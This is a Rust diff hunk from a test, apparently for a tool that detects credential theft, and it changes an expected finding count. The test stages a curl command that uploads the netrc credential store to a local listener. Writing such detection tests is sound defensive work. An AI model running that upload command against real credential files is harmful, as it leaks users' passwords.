@@ -178,8 +178,9 @@ fn curl() {
         scene.theft("send", Store::Netrc, r#"curl --silent --max-time 1 -nsT "$STORE" http://127.0.0.1:9/; exit 0"#);
     scene.add(act.reader(skip::program("curl").unwrap()).below(&["dash"]));
     let watched = scene.play();
+    // The file is also a store of others, to whom it is only that.
     let told = |finding: &&Finding| finding.mentions("curl only moves or shows bytes, for whoever runs it");
-    assert_eq!(watched.findings.iter().filter(told).count(), 1, "{}", watched.story());
+    assert_eq!(watched.findings.iter().filter(told).count(), 2, "{}", watched.story());
     let told = |finding: &&Finding| finding.mentions("with these arguments it could send any file elsewhere");
     assert_eq!(watched.findings.iter().filter(told).count(), 1, "{}", watched.story());
     assert!(server.join().unwrap(), "curl sent no password, so it read none");
